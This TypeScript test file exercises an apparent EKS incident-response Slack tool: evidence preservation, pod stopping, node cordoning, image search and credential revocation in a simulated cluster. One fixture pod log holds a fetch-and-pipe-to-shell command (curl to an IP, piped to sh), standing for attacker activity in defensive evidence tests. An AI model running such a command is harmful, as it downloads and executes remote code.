/**
 * The other EKS steps end to end: evidence, owner-aware stop, cordon, find pods by image across
 * two clusters, update a Deployment's image, pod credentials.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { eksFindingEvent, publishFinding, RESPONDER, startEksE2eWorld } from '../helpers/eks-world.js';
import { cardText, openPlan, runAction, submitAndSettle, threadFiles, threadText } from '../helpers/slack-interactions.js';

const DIGEST = `sha256:${'ab'.repeat(32)}`;
const OTHER = `sha256:${'cd'.repeat(32)}`;

test('preserve pod evidence: spec, status, events, owner chain and each container log attached to the thread', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  const [pod] = c.addDeployment({ namespace: 'web', name: 'shop', replicas: 1 });
  c.logs.set(`web/${pod}/app`, 'GET /admin 200\ncurl http://203.0.113.9/x.sh | sh\n');
  c.events.push({
    metadata: { namespace: 'web', name: 'ev1' },
    involvedObject: { kind: 'Pod', name: pod },
    reason: 'Started',
    message: 'Started container app',
  });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod! });
  await publishFinding(w.h, event);
  await runAction(w.h, { findingId, action: 'preserve_pod_evidence', user: RESPONDER });
  const [file] = await threadFiles(w.h, findingId);
  assert.equal(file?.filename, `pod-evidence-web-${pod}.json`);
  const evidence = JSON.parse(file!.content ?? '{}');
  assert.equal(evidence.pod.metadata.name, pod);
  assert.equal(evidence.logs.app, 'GET /admin 200\ncurl http://203.0.113.9/x.sh | sh\n');
  assert.deepEqual(
    evidence.ownerChain.map((o: { kind: string; name: string }) => `${o.kind}/${o.name}`),
    ['ReplicaSet/shop-rs', 'Deployment/shop'],
  );
  assert.equal(evidence.events[0].reason, 'Started');
  const log = w.k8s.calls.find((x) => x.path.endsWith('/log'))!;
  assert.deepEqual([log.query.get('container'), log.query.get('tailLines'), log.query.get('limitBytes')], ['app', '500', String(256 * 1024)]);
  assert.equal(w.k8s.calls.filter((x) => x.method !== 'GET' && x.resource !== 'selfsubjectaccessreviews.authorization.k8s.io').length, 0, 'read-only');
});

test('stop pod owned by a Deployment: the plan says it will be recreated; delete anyway → replacement starts; scale to 0 → all replicas stop', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  const [pod] = c.addDeployment({ namespace: 'web', name: 'shop', replicas: 2 });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod! });
  await publishFinding(w.h, event);
  const modal = await openPlan(w.h, { findingId, action: 'stop_pod', user: RESPONDER });
  assert.match(modal.text, /belongs to Deployment web\/shop \(ReplicaSet\/shop-rs → Deployment\/shop\): deleting it only makes the controller start another/);
  assert.match(modal.text, /Scale Deployment shop to 0/);
  await submitAndSettle(w.h, { runId: modal.runId, user: RESPONDER, reason: 'miner', selects: { mode: 'delete' } });
  assert.equal(c.pods.has(`web/${pod}`), false, 'the pod is deleted');
  assert.equal(c.podsOf('web', 'shop').length, 2, 'the ReplicaSet replaced it');
  assert.match(await threadText(w.h, findingId), /starts a replacement from the same image/);

  const [pod2] = c.podsOf('web', 'shop').map((p) => p.metadata.name as string);
  const second = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod2! });
  await publishFinding(w.h, second.event);
  await runAction(w.h, { findingId: second.findingId, action: 'stop_pod', user: RESPONDER, reason: 'miner', selects: { mode: 'scale' } });
  const patch = w.k8s.calls.find((x) => x.method === 'PATCH')!;
  assert.deepEqual(
    [patch.path, patch.contentType, patch.body],
    [
      '/apis/apps/v1/namespaces/web/deployments/shop',
      'application/json-patch+json',
      [
        { op: 'test', path: '/spec/replicas', value: 2 },
        { op: 'replace', path: '/spec/replicas', value: 0 },
      ],
    ],
  );
  assert.equal(c.podsOf('web', 'shop').length, 0);
  assert.match(await cardText(w.h, second.findingId), /Workload scaled to 0/);
});

test('stop a bare pod: simply deleted', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  c.addPod({ namespace: 'web', name: 'debug-shell' });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: 'debug-shell' });
  await publishFinding(w.h, event);
  const { modal } = await runAction(w.h, { findingId, action: 'stop_pod', user: RESPONDER, reason: 'shell' });
  assert.match(modal.text, /Delete bare pod web\/debug-shell \(cluster prod\) \(no controller owns it/);
  assert.equal(c.pods.size, 0);
  assert.deepEqual(
    w.k8s.calls.filter((x) => x.method === 'DELETE').map((x) => x.path),
    ['/api/v1/namespaces/web/pods/debug-shell'],
  );
});

test('cordon node: no drain, labelled, names its EC2 instance; running it again uncordons', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  c.addNode('ip-10-0-1-20.ec2.internal', 'i-0123456789abcdef0');
  c.addPod({ namespace: 'web', name: 'p', node: 'ip-10-0-1-20.ec2.internal' });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: 'p' });
  await publishFinding(w.h, event);
  const { modal } = await runAction(w.h, { findingId, action: 'cordon_node', user: RESPONDER });
  assert.match(modal.text, /Cordon node ip-10-0-1-20\.ec2\.internal \(EC2 instance i-0123456789abcdef0\)/);
  assert.match(modal.text, /No drain/);
  const node = c.nodes.get('ip-10-0-1-20.ec2.internal')!;
  assert.equal(node.spec.unschedulable, true);
  assert.equal(node.metadata.labels['guardduty-responder/investigation'], findingId);
  assert.equal(c.pods.size, 1, 'nothing evicted');
  assert.match(await cardText(w.h, findingId), /i-0123456789abcdef0/);

  const again = await runAction(w.h, { findingId, action: 'cordon_node', user: RESPONDER });
  assert.match(again.modal.text, /Release node ip-10-0-1-20\.ec2\.internal: uncordon it/);
  assert.equal(c.nodes.get('ip-10-0-1-20.ec2.internal')!.spec.unschedulable, false);
  assert.equal(c.nodes.get('ip-10-0-1-20.ec2.internal')!.metadata.labels['guardduty-responder/investigation'], undefined);
});

test('find pods running the image: every cluster of the account, matched on imageID digest, paged, per-cluster results', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const prod = w.addCluster('prod');
  const staging = w.addCluster('staging');
  const [pod] = prod.addDeployment({ namespace: 'web', name: 'shop', replicas: 3, image: 'shop:1', digest: DIGEST });
  prod.addDeployment({ namespace: 'web', name: 'cart', replicas: 2, image: 'cart:1', digest: OTHER });
  staging.addPod({ namespace: 'qa', name: 'shop-copy', image: 'mirror/shop:latest', digest: DIGEST });
  staging.addPod({ namespace: 'qa', name: 'same-tag-other-digest', image: 'shop:1', digest: OTHER });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod!, image: 'shop:1' });
  await publishFinding(w.h, event);
  const { modal } = await runAction(w.h, { findingId, action: 'find_image_pods', user: RESPONDER });
  assert.match(modal.text, new RegExp(`Search 2 EKS cluster\\(s\\) of account ${w.aws.accountId}`));
  const thread = await threadText(w.h, findingId);
  assert.match(thread, /4 pod\(s\) running sha256:abababababab… in 2 of 2 cluster/);
  assert.match(thread, /prod: 3 pod\(s\)/);
  assert.match(thread, /staging: 1 pod\(s\) — qa\/shop-copy/);
  assert.doesNotMatch(thread, /same-tag-other-digest/);
  const lists = w.k8s.calls.filter((x) => x.path === '/api/v1/pods');
  assert.deepEqual(lists.map((x) => [x.cluster, x.query.get('limit')]).sort(), [
    ['prod', '500'],
    ['staging', '500'],
  ]);
});

test("update a Deployment's image: JSON patch testing the old image and setting the clean one", async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  const [pod] = c.addDeployment({ namespace: 'web', name: 'shop', replicas: 1, image: 'shop:1' });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: pod! });
  await publishFinding(w.h, event);
  await runAction(w.h, { findingId, action: 'update_workload_image', user: RESPONDER, reason: 'rebuilt', inputs: { image: 'shop:1.0.1' } });
  const patch = w.k8s.calls.find((x) => x.method === 'PATCH')!;
  assert.deepEqual(patch.body, [
    { op: 'test', path: '/spec/template/spec/containers/0/image', value: 'shop:1' },
    { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'shop:1.0.1' },
  ]);
  assert.equal(c.workloads.get('deployments/web/shop').spec.template.spec.containers[0].image, 'shop:1.0.1');
  assert.match(await threadText(w.h, findingId), /container app: shop:1 → shop:1\.0\.1/);
});

test('revoke pod credentials: the IRSA role and the Pod Identity role are found; the TokenIssueTime deny policy is attached', async (t) => {
  const w = await startEksE2eWorld();
  t.after(() => w.close());
  const c = w.addCluster('prod');
  c.addPod({ namespace: 'web', name: 'p', serviceAccount: 'shop' });
  c.addServiceAccount('web', 'shop', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/shop-irsa' });
  w.aws.eks.podIdentities.push({
    cluster: 'prod',
    namespace: 'web',
    serviceAccount: 'shop',
    roleArn: 'arn:aws:iam::123456789012:role/shop-pod-identity',
    associationId: 'a-0123456789abcdef0',
  });
  const { event, findingId } = eksFindingEvent({ aws: w.aws, cluster: 'prod', namespace: 'web', pod: 'p', serviceAccount: 'shop' });
  await publishFinding(w.h, event);
  const { modal } = await runAction(w.h, { findingId, action: 'revoke_pod_credentials', user: RESPONDER });
  assert.match(modal.text, /role\/shop-irsa \(IRSA/);
  assert.match(modal.text, /role\/shop-pod-identity \(EKS Pod Identity\)/);
  const [file] = await threadFiles(w.h, findingId);
  assert.equal(file?.filename, 'revoke-older-sessions-policy.json');
  assert.match(file!.content ?? '', /"aws:TokenIssueTime": "\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"/);
  assert.match(await threadText(w.h, findingId), /put-role-policy --role-name shop-irsa/);
});
